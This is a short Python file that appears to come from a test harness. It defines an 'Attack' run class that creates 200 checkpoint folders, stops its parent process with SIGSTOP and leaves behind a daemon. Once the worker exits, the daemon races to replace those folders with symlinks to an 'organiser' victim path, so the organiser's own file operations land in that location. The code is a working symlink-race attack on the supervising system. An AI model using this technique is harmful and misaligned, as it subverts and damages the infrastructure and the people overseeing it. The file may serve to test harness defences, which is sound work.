"""Leaves a daemon that waits for its worker's end, and swaps the folders that are cleared away for links to the organiser's."""

import os
import signal
import time

from aim import AIM, HOME, attempt, daemon, wait_for

from run import ZEWDPCBaseRun


def swap(worker):
    wait_for(lambda: not os.path.exists(f"/proc/{worker}/exe"), 6)  # a dead process has none, also before it is reaped
    for _ in range(40):
        for number in range(200):
            attempt(os.rmdir, f"{HOME}/checkpoint/d{number}")
            attempt(os.symlink, AIM["victim"], f"{HOME}/checkpoint/d{number}")
        time.sleep(0.02)


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        for number in range(200):
            os.makedirs(f"{HOME}/checkpoint/d{number}")
        daemon(swap, os.getpid())
        attempt(os.kill, os.getppid(), signal.SIGSTOP)
        os._exit(0)
